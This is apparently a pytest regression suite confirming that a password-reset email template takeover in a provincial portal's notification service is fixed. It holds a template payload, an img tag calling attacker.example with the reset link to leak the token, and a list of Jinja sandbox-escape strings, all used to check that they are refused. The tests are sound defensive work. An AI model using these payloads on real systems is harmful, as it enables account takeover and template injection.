"""The reset-mail takeover, through the real stack: every road to it is closed.

The finding: an agency admin overrode the province's password-reset template with
`<img src="https://attacker.example/c?{{ link }}">`; opening the mail sent the
reset token to the attacker. Now only the province admin edits templates, `link`
is no template variable, outside images are refused, an override stored before
these rules is ignored, and the mail in the SMTP sink has no outside URL.
"""

import re
import uuid

import pytest
from sqlalchemy import create_engine, text

from services.shared.config import database_url
from tests.conftest import Api
from tests.integration.accounts.conftest import citizen_body, fake_ip, register

from .conftest import Staff
from .helpers import event, publish

PATH = "/api/v1/notification-templates/password_reset"
ATTACKER = "attacker.example"
BLOCKS = (
    "{{% block subject %}}Đặt lại mật khẩu{{% endblock %}}"
    "{{% block text %}}{text}{{% endblock %}}{{% block html %}}{html}{{% endblock %}}"
)
TAKEOVER = BLOCKS.format(
    text="{{ link }}", html=f'<img src="https://{ATTACKER}/c?{{{{ link }}}}">'
)
TAKEOVER_NAMED = BLOCKS.format(
    text="{{ portal_link() }}",
    html=f'<img src="https://{ATTACKER}/c?{{{{ portal_link() }}}}">',
)


class People:
    """An agency admin, a province admin and a victim province admin of 01."""

    def __init__(self, api, agency):
        self.agency = agency
        self.agency_admin = self._user(api, "admin", agency=agency.code)
        self.province_admin = self._user(api, "province_admin")
        self.victim_email = self._email("victim")
        self._create("province_admin", self.victim_email)

    @staticmethod
    def _email(role):
        return f"{role}-{uuid.uuid4().hex[:8]}@e2e.test"

    def _create(self, role, email, **extra):
        body = {
            "email": email,
            "full_name": f"Quản trị {role}",
            "password": "Portal-E2e-2026",
            "role": role,
            "province": "01",
            **extra,
        }
        resp = self.agency.operator.post("/api/v1/staff", json=body)
        assert resp.status_code == 201, resp.text

    def _user(self, api, role, **extra):
        email = self._email(role)
        self._create(role, email, **extra)
        return Staff.login(api, email)


@pytest.fixture(scope="module")
def people(stack, agency):
    return People(Api(stack.url), agency)


@pytest.fixture(scope="module")
def notify_db(stack):
    engine = create_engine(database_url("notify", stack.env).replace("+psycopg2", ""))
    yield engine
    engine.dispose()


def code_of(resp):
    return resp.status_code, resp.json()["error"]["code"]


def test_agency_admin_cannot_override_the_province_reset_mail(people):
    resp = people.agency_admin.put(PATH, json={"source": TAKEOVER})
    assert code_of(resp) == (403, "FORBIDDEN")
    resp = people.agency_admin.post(f"{PATH}/preview", json={"source": TAKEOVER})
    assert code_of(resp) == (403, "FORBIDDEN")


def test_province_admin_cannot_use_the_link_as_a_variable(people):
    resp = people.province_admin.put(PATH, json={"source": TAKEOVER})
    assert code_of(resp) == (422, "TEMPLATE_VARIABLE_UNKNOWN")
    assert resp.json()["error"]["details"]["variables"] == ["link"]


def test_province_admin_cannot_put_the_named_link_in_an_outside_image(people):
    resp = people.province_admin.put(PATH, json={"source": TAKEOVER_NAMED})
    assert code_of(resp) == (422, "TEMPLATE_CONTENT_REFUSED")
    assert "<img>" in resp.json()["error"]["details"]["content"]


def test_province_admin_cannot_touch_another_province(people):
    safe = BLOCKS.format(text="{{ portal_link() }}", html="<p>x</p>")
    resp = people.province_admin.put(PATH, json={"source": safe, "province": "79"})
    assert code_of(resp) == (403, "TEMPLATE_PROVINCE_FORBIDDEN")
    resp = people.province_admin.get(f"{PATH}?province=79")
    assert code_of(resp) == (403, "TEMPLATE_PROVINCE_FORBIDDEN")


@pytest.mark.parametrize(
    "escape",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ name|attr('__class__') }}",
        "{{ cycler.__init__.__globals__ }}",
        "{% include 'vi/password_reset.j2' %}",
    ],
)
def test_sandbox_escapes_are_refused(people, escape):
    source = BLOCKS.format(text=escape, html="<p>x</p>")
    resp = people.province_admin.post(f"{PATH}/preview", json={"source": source})
    assert code_of(resp) == (422, "TEMPLATE_UNSAFE")


def test_preview_renders_the_sample_with_the_portal_link_and_saves_nothing(
    stack, people
):
    source = BLOCKS.format(
        text="Mở {{ portal_link() }}", html="<p>{{ portal_link('Đặt lại') }}</p>"
    )
    resp = people.province_admin.post(f"{PATH}/preview", json={"source": source})
    assert resp.status_code == 200, resp.text
    assert f'<a href="{stack.url}/reset-password?token=' in resp.json()["html"]
    found = people.province_admin.get(PATH).json()
    assert found["overridden"] is False
    assert "link" not in found["variables"]


def _stale_override(notify_db, source):
    """An override stored before the rules (what the agency admin had saved)."""
    with notify_db.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO template_overrides"
                " (province, key, lang, source, updated_by, updated_at, rules)"
                " VALUES ('01', 'password_reset', 'vi', :s, 'agency-admin', now(), 0)"
                " ON CONFLICT (province, key, lang)"
                " DO UPDATE SET source = :s, rules = 0"
            ),
            {"s": source},
        )


def _victim_citizen(api):
    body = citizen_body(national_id=f"0010{uuid.uuid4().int % 10**8:08d}")
    resp = register(api, body)
    assert resp.status_code == 201, resp.text
    return body["email"]


@pytest.mark.parametrize("victim", ["citizen", "province_admin"])
def test_reset_mail_in_the_sink_has_no_outside_url(
    stack, api, people, notify_db, mailbox, victim
):
    _stale_override(notify_db, TAKEOVER)
    shown = people.province_admin.get(PATH).json()
    assert (shown["stale"], shown["overridden"]) == (True, False)
    address = _victim_citizen(api) if victim == "citizen" else people.victim_email
    resp = api.post(
        "/api/v1/accounts/password-reset",
        json={"email": address},
        headers={"X-Forwarded-For": fake_ip()},
    )
    assert resp.status_code == 202, resp.text
    (msg,) = mailbox.wait_for(address, subject_contains="mật khẩu")
    html = msg.get_body(("html",)).get_content()
    plain = msg.get_body(("plain",)).get_content()
    assert ATTACKER not in html + plain and "<img" not in html
    links = re.findall(r'(?:href|src)="([^"]+)"', html)
    assert links and all(link.startswith(f"{stack.url}/") for link in links)
    assert f"{stack.url}/reset-password?token=" in plain


def test_a_safe_override_gets_the_system_link(stack, rpc, mailbox):
    province = f"T{uuid.uuid4().hex[:5]}"
    admin = {
        "user_id": "pa-safe",
        "kind": "staff",
        "roles": ["province_admin"],
        "province": province,
    }
    marker = uuid.uuid4().hex[:8]
    source = BLOCKS.format(
        text=f"{marker} {{{{ portal_link() }}}}",
        html="<p>{{ portal_link('Đặt lại') }}</p>",
    )
    rpc.call(
        "notify", "save_template", admin, {"key": "password_reset", "source": source}
    )
    to = f"safe-{marker}@example.vn"
    payload = event(email=to, full_name="An", reset_token=f"tok-{marker}")
    publish(
        stack, "accounts", "password_reset_requested", dict(payload, province=province)
    )
    (msg,) = mailbox.wait_for(to)
    plain = msg.get_body(("plain",)).get_content()
    assert plain.strip() == f"{marker} {stack.url}/reset-password?token=tok-{marker}"
